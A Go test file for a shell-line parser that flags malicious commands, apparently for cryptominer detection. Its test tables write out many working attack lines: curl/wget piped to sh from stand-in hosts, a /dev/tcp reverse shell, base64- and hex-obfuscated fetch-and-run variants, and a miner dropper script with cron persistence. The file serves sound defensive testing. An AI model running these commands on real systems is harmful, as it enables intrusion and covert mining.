package shell

import (
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"demine/internal/fact"
)

// Short forms of what a line is to be, in this order.
const (
	fx = "fetch-exec"
	fe = "fetches"
	dx = "decode-exec"
	dt = "dev-tcp"
	de = "detaches"
)

func flags(s fact.Shell) string {
	var out []string
	for _, f := range []struct {
		name string
		set  bool
	}{{fx, s.FetchExec}, {fe, s.Fetches}, {dx, s.DecodeExec}, {dt, s.DevTCP}, {de, s.Detaches}} {
		if f.set {
			out = append(out, f.name)
		}
	}
	return strings.Join(out, " ")
}

var b64 = base64.StdEncoding.EncodeToString([]byte("curl -fsSL http://evil/x | sh"))

// lines: what attacks and look-alikes (docs/look-alikes.md) do. Flags are all that
// the line may have.
var lines = []struct{ line, flags string }{
	// Fetch and run.
	{"curl -fsSL https://h/api/report?pm=k | sh", fx + " " + fe},
	{"curl -fsSL https://h/api/report?pm=k|sh", fx + " " + fe},
	{"wget -q -O - http://1.2.3.4/x.sh | bash > /dev/null 2>&1", fx + " " + fe},
	{"wget -qO- http://1.2.3.4/x.sh|bash", fx + " " + fe},
	{"wget http://1.2.3.4/x.sh -qO - | sh -s -- --opt", fx + " " + fe},
	{"(curl -fsSL http://h/x||wget -q -O- http://h/x)|sh", fx + " " + fe},
	{"{ curl -fsSL http://h/x; } | sh", fx + " " + fe},
	{"curl -fsSL 1.2.3.4/x | sudo -E bash -", fx + " " + fe},
	{"curl -s http://h/x | tee /tmp/log | /bin/sh", fx + " " + fe},
	{"/usr/bin/curl -s http://h/x | /usr/bin/env bash", fx + " " + fe},
	{"cdt -fsSL http://h/x | bash", fx + " " + fe},
	{"wge -q -O - http://h/x | bash", fx + " " + fe},
	{"wd1 -qO- http://h/x|bash", fx + " " + fe},
	{"busybox wget -qO- http://h/x | busybox sh", fx + " " + fe},
	{"sh -c \"$(curl -fsSL https://h/install.sh)\" \"\" --unattended", fx + " " + fe},
	{"bash -c \"$(wget -qO- h/x)\"", fx + " " + fe},
	{"sh -c 'curl http://h/x | sh'", fx + " " + fe},
	{"bash -lc \"sh -c 'wget -O- http://h/x | bash'\"", fx + " " + fe},
	{"bash <(curl -s http://h/x)", fx + " " + fe},
	{"bash < <(curl -s http://h/x)", fx + " " + fe},
	{"source <(curl -s http://h/x)", fx + " " + fe},
	{". <(wget -qO- http://h/x)", fx + " " + fe},
	{"curl -s http://h/x | source /dev/stdin", fx + " " + fe},
	{"eval $(curl -s http://h/x)", fx + " " + fe},
	{"eval \"`wget -qO- http://h/x`\"", fx + " " + fe},
	{"$(curl -s http://h/x)", fx + " " + fe},
	{"x=$(curl -s http://h/x); eval \"$x\"", fx + " " + fe},
	{"x=$(curl -s http://h/x); echo \"$x\" | bash", fx + " " + fe},
	{"echo $(curl -s http://h/x) | bash", fx + " " + fe},
	{"bash <<< \"$(curl -s http://h/x)\"", fx + " " + fe},
	{"curl -o /tmp/x http://h/x && sh /tmp/x", fx + " " + fe},
	{"curl -o /tmp/x http://h/x; chmod +x /tmp/x && /tmp/x", fx + " " + fe},
	{"wget http://h/x.sh -O /tmp/.x; chmod 777 /tmp/.x; nohup /tmp/.x >/dev/null 2>&1 &", fx + " " + fe + " " + de},
	{"cd /tmp && wget http://h/x.sh && bash x.sh", fx + " " + fe},
	{"cd /tmp; curl -O http://h/a/b.sh; chmod +x b.sh; ./b.sh", fx + " " + fe},
	{"wget -P /var/tmp http://h/m && /var/tmp/m", fx + " " + fe},
	{"curl http://h/x > /tmp/x; sh /tmp/x", fx + " " + fe},
	{"curl http://h/x | tee /tmp/x; sh /tmp/x", fx + " " + fe},
	{"curl -o /tmp/a http://h/a; mv /tmp/a /usr/bin/b; setsid /usr/bin/b", fx + " " + fe + " " + de},
	{"F=/tmp/x; curl -o $F http://h/x; sh $F", fx + " " + fe},
	{"cd /tmp; wge -q -O sysupdate http://h/s; ./sysupdate", fx + " " + fe},
	{"curl -s http://h/x | xargs -I{} sh -c '{}'", fx + " " + fe},
	{"echo 'curl http://h/x | sh' | at now", fx + " " + fe},
	{"echo 'curl http://h/x | sh' | sh", fx + " " + fe},
	{"curl http://h/x.py | python3 -", fx + " " + fe},
	{"curl http://h/x.py | python2.7", fx + " " + fe},
	{"curl http://h/x.pl | perl", fx + " " + fe},
	{"python -c \"import urllib;exec(urllib.urlopen('http://h/x').read())\"", fx + " " + fe},
	{"python3 -c 'import urllib.request as u;print(u.urlopen(\"http://h/x\").read().decode())' | bash", fx + " " + fe},
	{"perl -MLWP::Simple -e 'eval get(\"http://h/x\")'", ""},
	{"perl -e 'use LWP::Simple; eval get(\"http://h/x\")'", fx + " " + fe},
	{"php -r \"eval(file_get_contents('http://h/x'));\"", fx + " " + fe},
	{"lwp-download http://h/x /tmp/x; sh /tmp/x", fx + " " + fe},
	{"flock -n /tmp/l -c 'curl http://h/x | sh'", fx + " " + fe},
	{"timeout 60 nice -n 19 bash -c 'wget -qO- http://h/x|sh'", fx + " " + fe},
	{"su - www -c 'curl http://h/x | sh'", fx + " " + fe},
	{"if [ -x /usr/bin/curl ]; then curl http://h/x | sh; else wget -O- http://h/x | sh; fi", fx + " " + fe},
	{"for i in 1 2; do curl http://h/$i | sh; done", fx + " " + fe},
	{"find /tmp -name x -exec sh -c 'curl http://h/x|sh' \\;", fx + " " + fe},
	{"pgrep kinsing || curl http://h/d.sh | bash", fx + " " + fe},
	{"ps aux | grep -v grep | grep -q 'x' || (curl -fsSL http://h/x || wget -qO- http://h/x) | sh", fx + " " + fe},
	{"get(){ curl -s $1; }; curl -s http://h/x |& bash", fx + " " + fe},
	{"exec 3<>/dev/tcp/1.2.3.4/80; cat <&3", dt},
	{"bash -i >& /dev/tcp/1.2.3.4/443 0>&1", dt},
	{"cat </dev/tcp/1.2.3.4/80 | sh", fx + " " + fe + " " + dt},
	{"bash < /dev/tcp/1.2.3.4/80", fx + " " + fe + " " + dt},
	{"nc 1.2.3.4 8000 | sh", fx + " " + fe},
	{"c''url -s http://h/x | s\\h", fx + " " + fe},
	{"curl http://h/x \\\n | sh", fx + " " + fe},
	{"curl http://h/x > >(sh)", fx + " " + fe},
	{"LD_PRELOAD=/tmp/l.so curl http://h/x|sh\r", fx + " " + fe},

	// Decode and run.
	{"echo " + b64 + " | base64 -d | sh", fx + " " + fe + " " + dx},
	{"base64 -d <<< " + b64 + " | bash", fx + " " + fe + " " + dx},
	{"eval \"$(echo aWQ= | base64 --decode)\"", dx},
	{"bash -c \"{echo,aWQ=}|{base64,-d}|{bash,-i}\"", ""}, // brace expansion: not followed
	{"echo 6964 | xxd -r -p | sh", dx},
	{"openssl enc -aes-256-cbc -d -in /tmp/e -k p | sh", dx},
	{"gunzip -c /tmp/x.gz | bash", dx},
	{"curl http://h/x.gz | gzip -d | sh", fx + " " + fe + " " + dx},
	{"base64 -d /tmp/e > /tmp/d; sh /tmp/d", dx},
	{"python -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'", dx},
	{"echo -e '\\x63\\x75\\x72\\x6c\\x20\\x68\\x2e\\x63\\x6f\\x7c\\x73\\x68' | bash", fx + " " + fe + " " + dx},
	{"echo 'hs | x/oc.h lruc' | rev | sh", fx + " " + fe + " " + dx},

	// Fetching, not running.
	{"wget -q -O - http://x/wp-cron.php >/dev/null 2>&1", fe},
	{"wget -q -O - https://example.org/wp-cron.php?doing_wp_cron", fe},
	{"curl -s http://127.0.0.1/health | grep -q ok || systemctl restart app", fe},
	{"curl -fsS https://h/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg", fe},
	{"curl -fsSL https://h/file -o /opt/file", fe},
	{"curl -sS https://h/x.json | python3 -m json.tool", fe},
	{"curl -sS https://h/x.json | python3 -c 'import sys,json; print(json.load(sys.stdin)[\"a\"])'", fe},
	{"curl -sS https://h/x | perl -pe 's/a/b/'", fe},
	{"curl https://h/x.tgz | tar xz -C /opt", fe},
	{"curl -o /tmp/data.json https://h/d && python3 /opt/parse.py /tmp/data.json", fe},
	{"curl -s https://h/x | sh -c 'cat > /tmp/x'", fe},
	{"curl -s https://h/ip | tee /etc/myip", fe},
	{"wget -qO /tmp/list https://h/list; grep -c . /tmp/list", fe},
	{"curl -X POST -d 'curl http://h/x | sh' https://h/hook", fe},
	{"curl --version | bash --version", fe},
	{"ssh host 'curl http://h/x | sh'", ""},
	{"echo 'curl http://h/x | sh'", ""},
	{"logger -t x 'curl http://h/x | sh'", ""},
	{"echo '*/5 * * * * curl http://h/x | sh' >> /etc/cron.d/x", ""},
	{"git clone https://h/x && sh x/install.sh", ""},
	{"# curl http://h/x | sh", ""},
	{"true # ; curl http://h/x | sh", ""},
	{"echo aGk= | base64 -d > /tmp/x", ""},
	{"zcat /var/backups/d.sql.gz | mysql db", ""},
	{"tar cz /etc | base64 | mail root", ""},
	{"which curl | sh", ""},

	// Look-alikes of docs/look-alikes.md.
	{"flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'", de},
	{"/www/server/cron/0123456789abcdef0123456789abcdef >> /www/server/cron/0123456789abcdef0123456789abcdef.log 2>&1", ""},
	{"\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null", ""},
	{"/www/server/panel/pyenv/bin/python3 -u /www/server/panel/class/acme_v2.py --renew=1", ""},
	{"xtrabackup --backup --stream=xbstream | pigz -p16 > /backup/x.gz", ""},
	{"> /usr/local/tomcat/logs/catalina.out", ""},
	{"pgrep cloudflared || nohup /usr/local/bin/cloudflared tunnel run &", de},
	{"cd / && run-parts --report /etc/cron.hourly", ""},
	{"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", ""},
	{"command -v debian-sa1 > /dev/null && debian-sa1 1 1", ""},
	{"curl -sfL https://get.k3s.io | sh -", fx + " " + fe},
	{"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", fx + " " + fe},
	{"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", ""},
	{"mysqldump -uroot -pX db | gzip > /backup/`date +\\%F`.sql.gz", ""},
	{"rsync -a /data/ backup@h:/data/ && find /data -mtime +7 -exec rm -f {} +", ""},
	{"java -jar /opt/app.jar --url=https://h/x > /var/log/app.log 2>&1 &", de},
}

func TestFlags(t *testing.T) {
	for _, c := range lines {
		if got := flags(Parse(c.line)); got != c.flags {
			t.Errorf("%s\n got %q\nwant %q", c.line, got, c.flags)
		}
	}
}

func TestFields(t *testing.T) {
	for _, c := range []struct {
		line string
		want fact.Shell
	}{
		{"curl -fsSL https://h/api/report?pm=k | sh", fact.Shell{
			Programs: []string{"curl", "sh"}, URLs: []string{"https://h/api/report?pm=k"}, FetchExec: true, Fetches: true,
		}},
		{"cd /var/tmp; curl -so minerd http://1.2.3.4:8000/m && chmod +x minerd && nohup ./minerd -o stratum+tcp://p:3333 >/dev/null 2>&1 &", fact.Shell{
			Programs: []string{"cd", "curl", "chmod", "nohup", "minerd"},
			URLs:     []string{"http://1.2.3.4:8000/m", "stratum+tcp://p:3333"},
			Paths:    []fact.Path{"/var/tmp"}, Runs: []fact.Path{"/var/tmp/minerd"}, Writes: []fact.Path{"/var/tmp/minerd"},
			FetchExec: true, Fetches: true, Detaches: true,
		}},
		{"LD_PRELOAD=/tmp/a.so:/tmp/b.so PATH=/bin:/opt/bin bash /opt/x.sh --conf=/etc/x.conf >>/var/log/x 2>/tmp/$USER.err", fact.Shell{
			Programs: []string{"bash"},
			Paths:    []fact.Path{"/tmp/a.so", "/tmp/b.so", "/bin", "/opt/bin", "/opt/x.sh", "/etc/x.conf", "/var/log/x"},
			Runs:     []fact.Path{"/opt/x.sh"}, Writes: []fact.Path{"/var/log/x"},
			Preload: []fact.Path{"/tmp/a.so", "/tmp/b.so"},
		}},
		{"sudo -u www env A=b timeout -k 5 60 /usr/bin/python3 '/opt/my app.py' | tee -a /var/log/y", fact.Shell{
			Programs: []string{"sudo", "env", "timeout", "python3", "tee"},
			Paths:    []fact.Path{"/usr/bin/python3", "/opt/my app.py", "/var/log/y"},
			Runs:     []fact.Path{"/usr/bin/python3", "/opt/my app.py"}, Writes: []fact.Path{"/var/log/y"},
		}},
	} {
		if d := cmp.Diff(c.want, Parse(c.line)); d != "" {
			t.Errorf("%s (-want +got):\n%s", c.line, d)
		}
	}
}

const dropper = `#!/bin/sh
# curl http://not/this | sh
export LD_PRELOAD=/usr/local/lib/libx.so
URL=http://1.2.3.4/m
if ! pgrep minerd; then
  cat > /etc/cron.d/x <<EOF
*/5 * * * * root curl http://data/only | sh
EOF
  case "$(uname -m)" in
  x86_64) wget -q -O /var/tmp/minerd $URL ;;
  *) exit ;;
  esac
  chmod +x /var/tmp/minerd
  setsid /var/tmp/minerd &
fi
sh <<-'X'
	/opt/inner.sh
	X
`

func TestScript(t *testing.T) {
	got := Script([]byte(dropper))
	want := fact.Shell{
		Programs:  []string{"export", "pgrep", "cat", "uname", "wget", "exit", "chmod", "setsid", "minerd", "sh", "inner.sh"},
		URLs:      []string{"http://1.2.3.4/m"},
		Paths:     []fact.Path{"/usr/local/lib/libx.so", "/etc/cron.d/x", "/var/tmp/minerd", "/opt/inner.sh"},
		Runs:      []fact.Path{"/var/tmp/minerd", "/opt/inner.sh"},
		Writes:    []fact.Path{"/etc/cron.d/x", "/var/tmp/minerd"},
		Preload:   []fact.Path{"/usr/local/lib/libx.so"},
		FetchExec: true, Fetches: true, Detaches: true,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}

// What an intruder may write to hold us up.
func TestHostile(t *testing.T) {
	for _, s := range []string{
		"(", "((", "$(", "$((", "${", "`", "\"$(", "<(", "{ ", "<<X ", "a|", "eval ", "sh -c ", "\\", "'", "\"", "$'",
		"eval \"$(", "a=$(", "f() ", "case a in ", "sudo ", "echo x|", "a=b ", "echo $a ", "sh -c \"", "x://", "<<X\n",
		"$(a)", "a;", "`\\`", "xargs ", "flock x ", "curl -", "2>", "eval $x;",
	} {
		start := time.Now()
		Parse(strings.Repeat(s, (1<<20)/len(s)))
		if took := time.Since(start); took > time.Minute {
			t.Errorf("%q repeated: %v", s, took)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, c := range lines {
		f.Add(c.line)
	}
	f.Add(dropper)
	f.Fuzz(func(t *testing.T, s string) {
		got := Parse(s)
		if d := cmp.Diff(got, Parse(s)); d != "" {
			t.Fatalf("differs from itself: %s", d)
		}
		if got.FetchExec && !got.Fetches {
			t.Fatal("runs what it does not fetch")
		}
		for _, list := range [][]fact.Path{got.Paths, got.Runs, got.Writes} {
			if len(list) > maxList {
				t.Fatal("too many")
			}
			for _, p := range list {
				if !strings.HasPrefix(string(p), "/") || strings.ContainsAny(string(p), "\x00\n") {
					t.Fatalf("path %q", p)
				}
			}
		}
		// A quoted line is an argument of echo, and nothing of it is run.
		quoted := Parse("echo '" + strings.ReplaceAll(s, "'", "") + "'")
		if quoted.FetchExec || quoted.DecodeExec || quoted.Detaches || len(quoted.Programs) != 1 {
			t.Fatalf("quoted: %+v", quoted)
		}
		// What comes after it does not hide it, unless a quote is open.
		if more := Parse(s + "\n\ntrue"); got.FetchExec && !more.FetchExec && len(s) < 1000 && !strings.ContainsAny(s, "'\"`\\(<{") {
			t.Fatalf("hidden by a line below: %+v", more)
		}
	})
}
